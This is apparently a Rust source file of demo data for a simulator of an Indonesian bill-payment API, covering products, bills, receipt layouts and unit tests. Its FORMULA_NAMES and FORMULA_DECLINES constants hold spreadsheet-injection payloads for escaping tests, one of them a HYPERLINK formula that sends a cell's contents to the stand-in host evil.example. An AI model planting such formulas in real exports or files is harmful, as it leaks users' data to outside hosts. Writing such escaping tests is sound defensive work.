//! The simulator's products and bills: static demo data, like the vendor's sandbox. Bills are
//! never used up: each inquiry issues a new `paymentCode`, and each `paymentCode` pays once.

/// How a product is sold.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ProductKind {
    /// Inquiry, then payment with the `paymentCode` the inquiry returned.
    Postpaid,
    /// One-step purchase.
    Prepaid,
}

/// A product of the catalog.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Product {
    pub code: &'static str,
    pub name: &'static str,
    pub kind: ProductKind,
    /// Inactive products answer `995` on inquiry and purchase.
    pub active: bool,
}

/// What an inquiry finds (or a purchase sells): the amounts and the receipt texts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Bill {
    pub nominal: i64,
    pub admin: i64,
    pub info1: String,
    pub info2: String,
    pub info3: String,
    pub sheets: u8,
}

impl Bill {
    /// What the deposit is charged: nominal + admin.
    pub fn total(&self) -> i64 {
        self.nominal + self.admin
    }
}

/// The vendor's example bill (product `2042`, PROTOCOL.md / vendor doc "Inquiry").
pub const VENDOR_PRODUCT: &str = "2042";
pub const VENDOR_BILL: &str = "AF085713323054";
/// The vendor's example `info1`, character for character.
pub const VENDOR_INFO1: &str = "Kode Bayar  : AF085713323054|Kode Reff   : 900017|ID Transaksi: TKP154821699|Nama        : Eduard Budiharto|Desk.Order  : Pembelian dari Tokopedia|Jml Tagihan : Rp.     304.000|";

/// Every product the simulator knows.
pub const PRODUCTS: &[Product] = &[
    Product {
        code: "2042",
        name: "TAGIHAN TOKOPEDIA",
        kind: ProductKind::Postpaid,
        active: true,
    },
    Product {
        code: "1001",
        name: "PLN PASCABAYAR",
        kind: ProductKind::Postpaid,
        active: true,
    },
    Product {
        code: "1201",
        name: "PDAM TIRTA PAKUAN",
        kind: ProductKind::Postpaid,
        active: true,
    },
    Product {
        code: "1301",
        name: "TELKOM TELEPON RUMAH",
        kind: ProductKind::Postpaid,
        active: true,
    },
    Product {
        code: "1501",
        name: "BPJS KESEHATAN",
        kind: ProductKind::Postpaid,
        active: true,
    },
    Product {
        code: "2099",
        name: "TV KABEL",
        kind: ProductKind::Postpaid,
        active: false,
    },
    Product {
        code: "3100",
        name: "PULSA TELKOMSEL 10.000",
        kind: ProductKind::Prepaid,
        active: true,
    },
    Product {
        code: "3200",
        name: "PLN PRABAYAR 20.000",
        kind: ProductKind::Prepaid,
        active: true,
    },
    Product {
        code: "3199",
        name: "PULSA INDOSAT 10.000",
        kind: ProductKind::Prepaid,
        active: false,
    },
];

pub fn product(code: &str) -> Option<&'static Product> {
    PRODUCTS.iter().find(|p| p.code == code)
}

/// Rupiah with the Indonesian thousands separator: `304000` → `304.000`.
pub fn rupiah(amount: i64) -> String {
    let digits = amount.unsigned_abs().to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push('.');
        }
        out.push(c);
    }
    if amount < 0 {
        out.insert(0, '-');
    }
    out
}

/// `Label : value|` with the label padded to `width`, as the vendor's receipts do.
fn line(label: &str, width: usize, value: &str) -> String {
    format!("{label:<width$}: {value}|")
}

/// `Rp.` and the amount right-aligned in 12 columns (`Rp.     304.000`).
fn amount_text(amount: i64) -> String {
    format!("Rp.{:>12}", rupiah(amount))
}

/// Bills of product `2042` whose biller data is hostile: the customer name is a spreadsheet
/// formula, as a compromised biller could send. For CSV-injection and escaping tests.
pub const FORMULA_NAMES: &[(&str, &str)] = &[
    (
        "FORMULA-EQ",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Lunas\")",
    ),
    ("FORMULA-PLUS", "+SUM(1+1)*cmd"),
    ("FORMULA-MINUS", "-2+3+cmd"),
    ("FORMULA-AT", "@SUM(A1:A9)"),
];

/// Bills of product `2042` whose inquiry a biller declines (`063`) with a text that starts
/// with a tab or a carriage return and then a formula.
pub const FORMULA_DECLINES: &[(&str, &str)] =
    &[("FORMULA-TAB", "\t=1+1+cmd"), ("FORMULA-CR", "\r=1+1+cmd")];

/// The biller's decline of a [`FORMULA_DECLINES`] bill: its code and text.
pub fn formula_decline(product: &str, bill_number: &str) -> Option<(&'static str, &'static str)> {
    FORMULA_DECLINES
        .iter()
        .find(|(number, _)| product == VENDOR_PRODUCT && *number == bill_number)
        .map(|(_, text)| ("063", *text))
}

/// A postpaid bill of `product`, if `bill_number` is one of its customers.
pub fn postpaid_bill(product: &str, bill_number: &str) -> Option<Bill> {
    let fixed = |nominal: i64, admin: i64, info1: String, info2: &str, sheets: u8| Bill {
        nominal,
        admin,
        info1,
        info2: info2.to_string(),
        info3: String::new(),
        sheets,
    };
    match (product, bill_number) {
        (VENDOR_PRODUCT, VENDOR_BILL) => Some(fixed(
            304_000,
            1_550,
            VENDOR_INFO1.to_string(),
            "TAGIHAN TOKOPEDIA|##1",
            1,
        )),
        ("2042", "AF085713323055") => Some(fixed(
            129_500,
            1_550,
            tokopedia_info1(
                "AF085713323055",
                "900018",
                "TKP154821700",
                "Sri Wahyuni",
                129_500,
            ),
            "TAGIHAN TOKOPEDIA|##1",
            1,
        )),
        ("1001", "532110000011") => Some(fixed(
            275_300,
            2_500,
            pln_info1(
                "532110000011",
                "Budi Santoso",
                "R1/1300 VA",
                "JUN26",
                "00012345-00012634",
                275_300,
            ),
            "PLN PASCABAYAR|##Informasi Hubungi Call Center 123",
            1,
        )),
        ("1001", "532110000012") => Some(fixed(
            512_800,
            5_000,
            pln_info1(
                "532110000012",
                "Dewi Lestari",
                "R1/2200 VA",
                "MAY26,JUN26",
                "00020111-00020702",
                512_800,
            ),
            "PLN PASCABAYAR|##Informasi Hubungi Call Center 123",
            2,
        )),
        ("1201", "0100234567") => Some(fixed(
            87_500,
            2_000,
            [
                line("No Pelanggan", 13, "0100234567"),
                line("Nama", 13, "Siti Aminah"),
                line("Periode", 13, "JUN 2026"),
                line("Pemakaian", 13, "18 M3"),
                line("Jml Tagihan", 13, &amount_text(87_500)),
            ]
            .concat(),
            "PDAM TIRTA PAKUAN KOTA BOGOR|##Simpan struk ini sebagai bukti pembayaran",
            1,
        )),
        ("1301", "0215550123") => Some(fixed(
            185_000,
            2_500,
            [
                line("No Telepon", 12, "0215550123"),
                line("Nama", 12, "PT Maju Jaya"),
                line("Periode", 12, "JUN 2026"),
                line("Jml Tagihan", 12, &amount_text(185_000)),
            ]
            .concat(),
            "TELKOM TELEPON RUMAH|##Informasi Hubungi 147",
            1,
        )),
        ("1501", number) if is_bpjs_number(number) => Some(bpjs_bill(number)),
        (VENDOR_PRODUCT, number) => FORMULA_NAMES
            .iter()
            .find(|(formula_bill, _)| *formula_bill == number)
            .map(|(_, name)| {
                fixed(
                    50_000,
                    1_550,
                    tokopedia_info1(number, "900099", "TKP000000666", name, 50_000),
                    "TAGIHAN TOKOPEDIA|##1",
                    1,
                )
            }),
        _ => None,
    }
}

fn tokopedia_info1(code: &str, reference: &str, id: &str, name: &str, amount: i64) -> String {
    [
        line("Kode Bayar", 12, code),
        line("Kode Reff", 12, reference),
        line("ID Transaksi", 12, id),
        line("Nama", 12, name),
        line("Desk.Order", 12, "Pembelian dari Tokopedia"),
        line("Jml Tagihan", 12, &amount_text(amount)),
    ]
    .concat()
}

fn pln_info1(
    idpel: &str,
    name: &str,
    tariff: &str,
    period: &str,
    meter: &str,
    amount: i64,
) -> String {
    [
        line("IDPEL", 12, idpel),
        line("Nama", 12, name),
        line("Tarif/Daya", 12, tariff),
        line("Bl/Th", 12, period),
        line("Stand Meter", 12, meter),
        line("Jml Tagihan", 12, &amount_text(amount)),
    ]
    .concat()
}

/// BPJS Kesehatan accepts any 13-digit number starting with `8888`: handy for load tests that
/// need many distinct bills.
fn is_bpjs_number(number: &str) -> bool {
    number.len() == 13 && number.starts_with("8888") && number.bytes().all(|b| b.is_ascii_digit())
}

/// 35,000 per family member; the member count is the last digit mod 4, plus one.
fn bpjs_bill(number: &str) -> Bill {
    let members = i64::from(number.as_bytes()[12] - b'0') % 4 + 1;
    let nominal = 35_000 * members;
    Bill {
        nominal,
        admin: 2_500,
        info1: [
            line("No VA", 12, number),
            line("Nama", 12, &format!("Peserta {}", &number[9..])),
            line("Jml Anggota", 12, &members.to_string()),
            line("Periode", 12, "1 BULAN"),
            line("Jml Tagihan", 12, &amount_text(nominal)),
        ]
        .concat(),
        info2: "BPJS KESEHATAN|##Informasi Hubungi 1500400".to_string(),
        info3: String::new(),
        sheets: 1,
    }
}

/// The generic bill behind every magic test number (`97…`, `98…`, `99000…`).
pub fn test_bill(product: &Product, bill_number: &str) -> Bill {
    Bill {
        nominal: 150_000,
        admin: 2_500,
        info1: [
            line("ID Pelanggan", 12, bill_number),
            line("Nama", 12, "Pelanggan Uji"),
            line("Jml Tagihan", 12, &amount_text(150_000)),
        ]
        .concat(),
        info2: format!("{}|##TAGIHAN UJI SANDBOX", product.name),
        info3: String::new(),
        sheets: 1,
    }
}

/// Whether a prepaid product sells to this customer number.
pub fn accepts_customer(product: &str, number: &str) -> bool {
    let digits = !number.is_empty() && number.bytes().all(|b| b.is_ascii_digit());
    match product {
        // A mobile number.
        "3100" | "3199" => digits && (10..=13).contains(&number.len()) && number.starts_with("08"),
        // A meter number (11 digits) or an IDPEL (12 digits).
        "3200" => digits && (number.len() == 11 || number.len() == 12),
        _ => false,
    }
}

/// What a purchase sells. `reference` is the simulator's running reference number and `token`
/// a 20-digit electricity token, both deterministic.
pub fn prepaid_sale(product: &Product, customer: &str, reference: &str, token: &str) -> Bill {
    match product.code {
        "3200" => Bill {
            nominal: 20_000,
            admin: 2_500,
            info1: [
                line("NO METER", 11, customer),
                line("NAMA", 11, "PELANGGAN PRABAYAR"),
                line("TARIF/DAYA", 11, "R1/1300 VA"),
                line("NOMINAL", 11, &amount_text(20_000)),
                line("KWH", 11, "13,9"),
                line("TOKEN", 11, &group_token(token)),
                line("NO.REF", 11, reference),
            ]
            .concat(),
            info2: "PLN PRABAYAR|##Informasi Hubungi Call Center 123".to_string(),
            info3: String::new(),
            sheets: 1,
        },
        // 3100 and anything else prepaid: the vendor's phone-credit example.
        _ => Bill {
            nominal: 10_050,
            admin: 0,
            info1: [
                line("NO. HANDPHONE", 14, customer),
                line("NILAI VOUCHER", 14, "10000"),
                line("NO.REF", 14, reference),
            ]
            .concat(),
            info2:
                "PEMBELIAN PULSA TELKOMSEL|##Untuk keluhan Hub.133|Npwp TSEL: 01.718.327.8.093.000"
                    .to_string(),
            info3: String::new(),
            sheets: 1,
        },
    }
}

/// `12345678901234567890` → `1234-5678-9012-3456-7890`.
fn group_token(token: &str) -> String {
    token
        .as_bytes()
        .chunks(4)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect::<Vec<_>>()
        .join("-")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_vendor_bill_is_reproduced_exactly() {
        let bill = postpaid_bill("2042", "AF085713323054").unwrap();
        assert_eq!((bill.nominal, bill.admin), (304_000, 1_550));
        assert_eq!(bill.info1, VENDOR_INFO1);
        // The generated layout matches the vendor's own padding.
        assert_eq!(
            tokopedia_info1(
                "AF085713323054",
                "900017",
                "TKP154821699",
                "Eduard Budiharto",
                304_000
            ),
            VENDOR_INFO1
        );
    }

    #[test]
    fn rupiah_groups_thousands() {
        assert_eq!(rupiah(0), "0");
        assert_eq!(rupiah(999), "999");
        assert_eq!(rupiah(1_550), "1.550");
        assert_eq!(rupiah(304_000), "304.000");
        assert_eq!(rupiah(50_000_000), "50.000.000");
    }

    #[test]
    fn unknown_customers_are_not_bills() {
        assert!(postpaid_bill("2042", "AF000000000000").is_none());
        assert!(postpaid_bill("1001", "AF085713323054").is_none());
        assert!(postpaid_bill("1501", "888812345678").is_none());
        assert_eq!(
            postpaid_bill("1501", "8888123456787").unwrap().nominal,
            140_000
        );
    }

    #[test]
    fn formula_bills_carry_their_formula_as_the_customer_name() {
        for (number, name) in FORMULA_NAMES {
            let bill = postpaid_bill("2042", number).unwrap();
            assert!(bill.info1.contains(&format!("Nama        : {name}|")));
            assert!(!name.contains('|'), "a name never splits the receipt");
        }
        assert!(postpaid_bill("1001", "FORMULA-EQ").is_none());
        assert_eq!(
            formula_decline("2042", "FORMULA-TAB"),
            Some(("063", "\t=1+1+cmd"))
        );
        assert_eq!(formula_decline("1001", "FORMULA-TAB"), None);
        assert_eq!(formula_decline("2042", "FORMULA-EQ"), None);
    }

    #[test]
    fn phone_credit_takes_mobile_numbers_only() {
        assert!(accepts_customer("3100", "08132259999"));
        assert!(accepts_customer("3100", "0813225999"));
        assert!(accepts_customer("3100", "0813225999912"));
        assert!(!accepts_customer("3100", "081322599"));
        assert!(!accepts_customer("3100", "08132259999123"));
        assert!(!accepts_customer("3100", "09132259999"));
        assert!(!accepts_customer("3100", "0813225999a"));
        assert!(accepts_customer("3200", "14234567890"));
        assert!(!accepts_customer("3200", "1423456789"));
    }
}
